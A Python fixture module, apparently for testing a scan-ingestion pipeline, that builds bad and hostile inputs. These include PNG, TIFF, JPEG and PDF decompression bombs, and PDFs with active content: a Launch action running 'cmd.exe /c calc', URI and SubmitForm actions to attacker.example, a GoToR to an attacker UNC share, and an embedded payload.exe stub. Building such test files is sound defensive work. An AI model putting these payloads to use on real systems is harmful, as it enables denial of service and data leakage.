"""Bad inputs a scan batch may contain; each one is clearly unusable.

Also the hostile ones of tests/security/ (decompression bombs, PDFs with
actions, files of zeros), each built small and fast: none holds its inflated
size in memory.
"""
from __future__ import annotations

import io
import random
import struct
import zlib
from pathlib import Path

import pikepdf


def _png_chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)


def bomb_png(width: int = 80_000, height: int = 80_000) -> bytes:
    """A tiny, well-formed PNG that declares an enormous page (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def truncated_pdf(good_pdf: bytes, rng: random.Random) -> bytes:
    """The start of a real PDF, cut before any page content is complete."""
    cut = min(len(good_pdf) // 3, rng.randint(300, 900))
    return good_pdf[:cut]


def encrypt_pdf(good_pdf: bytes, path: Path) -> None:
    """Password-protected PDF (user password needed to open it)."""
    with pikepdf.open(io.BytesIO(good_pdf)) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(owner="chu-so-huu", user="matkhau123", R=4, aes=False, metadata=False),
                 static_id=True)


NOTE_TEXT = (
    "DANH SÁCH HỒ SƠ BÀN GIAO\n"
    "Đợt quét: {batch}\n"
    "1. Hồ sơ thi hành án phạt tù - 12 bộ\n"
    "2. Giấy chứng nhận chấp hành xong án phạt tù - 5 bộ\n"
    "Ghi chú: file này do cán bộ quét lưu nhầm vào thư mục, không phải bản quét.\n"
)


def write_bad_files(batch_dir: Path, rng: random.Random, good_pdf: bytes, batch_id: str) -> list[dict]:
    """Write the bad inputs; returns truth lines {"source", "bad": True, "why"}."""
    out = []

    def add(name: str, why: str, data: bytes | None = None) -> Path:
        p = batch_dir / name
        if data is not None:
            p.write_bytes(data)
        out.append({"source": name, "bad": True, "why": why})
        return p

    add("HS_quet_0000.pdf", "zero-byte file", b"")
    add("HS_quet_loi_truncated.pdf", "truncated PDF (download/scan interrupted): no xref, no pages",
        truncated_pdf(good_pdf, rng))
    add("danh_sach_ban_giao.pdf", "plain text file with a .pdf extension", NOTE_TEXT.format(batch=batch_id).encode("utf-8"))
    p = add("HS_bao_mat.pdf", "encrypted PDF: a user password is needed to open it")
    encrypt_pdf(good_pdf, p)
    add("trang_quet_loi.png", "decompression bomb: a tiny PNG declaring 80000 x 80000 pixels", bomb_png())
    add("IMG_0042.tif", "random bytes with an image extension (no image signature)",
        b"\x1f" + bytes(rng.getrandbits(8) for _ in range(4095)))
    return out


# -- hostile files (tests/security) ------------------------------------------------------

def zeros_deflate(n_mib: int) -> bytes:
    """A zlib stream that inflates to n_mib MiB of zero bytes, built in about 1 KiB per MiB.

    After a full flush deflate forgets its history, so every further MiB of zeros
    compresses to the same bytes: one block is made and repeated, then an empty
    final block and the Adler-32 of n zero bytes ((n mod 65521) << 16 | 1)."""
    c = zlib.compressobj(9)
    mib = bytes(1 << 20)
    first = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    adler = (((n_mib << 20) % 65521) << 16) | 1
    return first + block * (n_mib - 1) + b"\x03\x00" + struct.pack(">I", adler)


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of these object bodies (numbered from 1; object 1 the catalog), with its xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def flate_bomb_pdf(inflated_mib: int = 2048) -> bytes:
    """A one-page PDF whose content stream is `inflated_mib` MiB of zeros, Flate-compressed
    (2 GiB: a file of about 2 MB)."""
    data = zeros_deflate(inflated_mib)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    ])


def image_bomb_pdf(inflated_mib: int = 1024, width: int = 1000, height: int = 1000) -> bytes:
    """A one-page PDF whose image declares width x height gray pixels but inflates to far more."""
    data = zeros_deflate(inflated_mib)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
        b" /Resources << /XObject << /Im0 4 0 R >> >> >>",
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length %d /Filter /FlateDecode >>\nstream\n" % (width, height, len(data))
        + data + b"\nendstream",
        b"<< /Length 31 >>\nstream\nq 595 0 0 842 0 0 cm /Im0 Do Q\nendstream",
    ])


def write_zeros(path: Path, size: int) -> Path:
    """A file of `size` zero bytes (a disk image never written to), made sparse: it reads
    as zeros like a written one, and costs no disk or time to make."""
    with path.open("wb") as fh:
        fh.truncate(size)
    return path


def bomb_tiff(width: int = 100_000, height: int = 100_000) -> bytes:
    """A small, well-formed TIFF header declaring an enormous page (one strip of 8 bytes)."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 8)]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, typ, count) + (struct.pack("<HH", value, 0) if typ == 3 else struct.pack("<I", value))
        for tag, typ, count, value in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 16) + b"\x00" * 8 + ifd


def bomb_jpeg(width: int = 60_000, height: int = 60_000) -> bytes:
    """A real small JPEG whose frame header (SOF0) is rewritten to declare width x height."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (16, 16), 255).save(buf, "JPEG")
    data = bytearray(buf.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5: sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def run_length_bomb_pdf(inflated_mib: int = 384) -> bytes:
    """A one-page PDF whose content stream is RunLength-encoded zeros (128 bytes per 2):
    qpdf decodes it whole, so only the parse's memory limit stops it."""
    data = b"\x81\x00" * (inflated_mib << 13) + b"\x80"
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /RunLengthDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    ])


def _action(kind: str, pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    D, N, S = pikepdf.Dictionary, pikepdf.Name, pikepdf.String
    return {
        "JavaScript": lambda: D(S=N.JavaScript, JS=S("app.alert('x')")),
        "Launch": lambda: D(S=N.Launch, F=S("cmd.exe"), Win=D(F=S("cmd.exe"), P=S("/c calc"))),
        "GoToR": lambda: D(S=N.GoToR, F=D(Type=N.Filespec, F=S("\\\\attacker.example\\share\\x.pdf")),
                           D=pikepdf.Array([0, N.Fit])),
        "GoToE": lambda: D(S=N.GoToE, NewWindow=True, T=D(R=N.C, N=S("payload"))),
        "URI": lambda: D(S=N.URI, URI=S("http://attacker.example/track")),
        "SubmitForm": lambda: D(S=N.SubmitForm, F=D(FS=N.URL, F=S("http://attacker.example/submit"))),
        "ImportData": lambda: D(S=N.ImportData, F=S("data.fdf")),
        "RichMediaExecute": lambda: D(S=N.RichMediaExecute, TA=D(), TI=D()),
        "Rendition": lambda: D(S=N.Rendition, OP=0),
        "Sound": lambda: D(S=N.Sound, Sound=pdf.make_stream(b"\x00" * 16)),
        "Movie": lambda: D(S=N.Movie, T=S("clip")),
    }[kind]()


def _link(pdf: pikepdf.Pdf, key: str, action: pikepdf.Dictionary) -> None:
    """A link annotation on page 1 carrying `action` under /A, or under /AA (mouse up)."""
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                               Rect=pikepdf.Array([50, 50, 200, 80]))
    annot[key] = action if key == "/A" else pikepdf.Dictionary(U=action)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def active_content_pdf(where: str, kind: str = "") -> bytes:
    """A blank one-page PDF carrying active content: `where` is how it hangs in the file
    ('OpenAction', 'annot-A', 'annot-AA', 'page-AA', 'names-JavaScript', 'EmbeddedFiles',
    'FileAttachment', 'RichMedia', 'XFA', 'OpenAction-chain'), `kind` the action's /S."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    D, N = pikepdf.Dictionary, pikepdf.Name
    if where == "OpenAction":
        pdf.Root.OpenAction = pdf.make_indirect(_action(kind, pdf))
    elif where == "OpenAction-chain":  # a harmless go-to whose /Next runs the action
        goto = D(S=N.GoTo, D=pikepdf.Array([pdf.pages[0].obj, N.Fit]), Next=_action(kind, pdf))
        pdf.Root.OpenAction = pdf.make_indirect(goto)
    elif where in ("annot-A", "annot-AA"):
        _link(pdf, "/A" if where == "annot-A" else "/AA", _action(kind, pdf))
    elif where == "page-AA":
        pdf.pages[0].obj.AA = D(O=_action(kind, pdf))
    elif where == "names-JavaScript":
        js = pdf.make_indirect(_action("JavaScript", pdf))
        pdf.Root.Names = D(JavaScript=D(Names=pikepdf.Array([pikepdf.String("init"), js])))
    elif where == "EmbeddedFiles":
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")
    elif where == "FileAttachment":
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
        annot = D(Type=N.Annot, Subtype=N.FileAttachment, Rect=pikepdf.Array([50, 50, 70, 70]), FS=spec.obj)
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
    elif where == "RichMedia":
        content = D(Assets=D(Names=pikepdf.Array([])), Configurations=pikepdf.Array([]))
        annot = D(Type=N.Annot, Subtype=N.RichMedia, Rect=pikepdf.Array([50, 50, 300, 300]),
                  RichMediaContent=content)
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
    elif where == "XFA":
        pdf.Root.AcroForm = D(Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    else:
        raise ValueError(where)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def inline_image_bomb_pdf(width: int = 100_000, height: int = 100_000) -> bytes:
    """A one-page PDF whose content stream draws an inline image (BI .. ID .. EI) declaring
    width x height gray pixels, with a few bytes of data."""
    data = zlib.compress(bytes(64))
    content = (b"q 595 0 0 842 0 0 cm BI /W %d /H %d /BPC 8 /CS /G /F /Fl ID " % (width, height)
               + data + b" EI Q")
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ])


def many_page_tiff(pages: int, loop: bool = False) -> bytes:
    """A TIFF of `pages` tiny 16x16 pages sharing one strip (about 114 bytes a page); with
    loop, the last page's next-IFD offset points back at the first."""
    def ifd(next_offset: int) -> bytes:
        entries = [(256, 3, 16), (257, 3, 16), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8),
                   (277, 3, 1), (278, 3, 16), (279, 4, 256)]
        return struct.pack("<H", len(entries)) + b"".join(
            struct.pack("<HHI", tag, typ, 1) + (struct.pack("<HH", v, 0) if typ == 3 else struct.pack("<I", v))
            for tag, typ, v in entries) + struct.pack("<I", next_offset)

    first, size = 8 + 256, 2 + 9 * 12 + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", first) + bytes(256))
    for i in range(pages):
        last = i == pages - 1
        out += ifd(first if last and loop else 0 if last else first + (i + 1) * size)
    return bytes(out)


def jpeg_lie_pdf(width: int = 60_000, height: int = 60_000) -> bytes:
    """A one-page PDF whose image XObject says 100x100 but holds a JPEG declaring width x height."""
    data = bomb_jpeg(width, height)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
        b" /Resources << /XObject << /Im0 4 0 R >> >> >>",
        b"<< /Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length %d /Filter /DCTDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        b"<< /Length 31 >>\nstream\nq 595 0 0 842 0 0 cm /Im0 Do Q\nendstream",
    ])
